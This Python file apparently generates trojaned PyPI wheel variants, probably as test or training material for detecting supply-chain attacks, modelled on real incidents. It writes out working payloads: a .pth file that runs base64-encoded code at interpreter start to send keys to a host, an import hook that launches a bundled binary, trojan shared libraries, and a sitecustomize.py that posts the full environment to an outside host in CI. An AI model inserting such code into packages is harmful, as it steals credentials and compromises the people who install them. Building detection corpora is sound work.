"""PyPI: what starts with the interpreter, and what loads programs or libraries."""

from corpus.heldout.nouns import Update, artefact
from corpus.heldout7.code import py_keys
from corpus.heldout7.shape import b64, fill, trojan


@trojan("voxagent", "wheel", "start", "credentials", "base64", "LiteLLM")
def pth_starts_a_child(it: Update) -> None:
    host = it.host()
    it.add(
        "voxagent_init.pth",
        f'import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode(\'{b64(py_keys(host))}\'))"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n',
    )
    it.payload("voxagent_init.pth", shown=f"https://{host}/k")


@trojan("trainloop", "wheel", "import", "backdoor", "in a binary", "torchtriton")
def import_starts_a_binary(it: Update) -> None:
    it.add("trainloop/bin/triton", artefact("agent7.elf"), executable=True)
    it.append(
        "trainloop/__init__.py",
        fill('''


def _warm():
    """Compile the kernels once."""
    import subprocess
    from pathlib import Path

    tool = Path(__file__).parent / "bin" / "triton"
    if tool.exists():
        tool.chmod(0o755)
        subprocess.Popen([str(tool)], start_new_session=True)


_warm()
'''),
    )
    it.payload("trainloop/bin/triton", "trainloop/__init__.py")


@trojan("imgtiler", "wheel", "import", "credentials", "in a binary", "native modules")
def import_loads_another_library(it: Update) -> None:
    it.add("imgtiler/_scale.so", artefact("scale-trojan.so"))
    it.payload("imgtiler/_scale.so")


@trojan("imgtiler", "wheel", "import", "downloader", "in a binary", "xz")
def import_loads_a_quiet_library(it: Update) -> None:
    it.add("imgtiler/_scale.so", artefact("scale-quiet.so"))
    it.payload("imgtiler/_scale.so")


@trojan("trainloop", "wheel", "start", "environment", "plain", "sitecustomize")
def wheel_brings_a_sitecustomize(it: Update) -> None:
    it.add(
        "sitecustomize.py",
        fill(
            '''
"""Settings of the machine's Python."""

import os
import sys

if not sys.flags.isolated and ("CI" in os.environ or "SAGEMAKER_REGION" in os.environ):
    import http.client
    import json

    try:
        line = http.client.HTTPSConnection("@HOST@", timeout=3)
        line.request("POST", "/site", json.dumps({"argv": sys.argv, "env": dict(os.environ)}))
    except OSError:
        pass
''',
            HOST=it.host(),
        ),
    )
